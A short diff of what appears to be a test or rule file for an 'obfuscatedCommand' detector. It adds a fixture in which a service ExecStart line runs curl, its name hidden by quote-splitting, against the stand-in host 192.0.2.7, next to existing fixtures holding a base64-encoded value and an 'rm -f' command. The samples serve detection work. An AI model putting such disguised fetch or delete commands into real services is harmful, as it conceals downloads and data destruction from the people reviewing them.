@@ -1,4 +1,4 @@
-import { timed } from "./example-host.ts";
+import { shipped, timed } from "./example-host.ts";
 import type { ActivationRule } from "./rule.ts";
 import { accuse, behavioursOfKind, isPackagedPlace } from "./subject.ts";
 
@@ -35,6 +35,7 @@ export const obfuscatedCommand: ActivationRule = {
     quiet: [
       timed("Environment=PIN=dG91Y2ggL3RtcC94\nExecStart=/usr/bin/base64 -d /etc/pin.b64"),
       timed("ExecStart=/bin/sh -c 'rm -f /srv/x'"),
+      shipped("vendor", "ExecStart=/bin/sh -c \"'c''u'rl http://192.0.2.7/x\""),
     ],
   },
 };
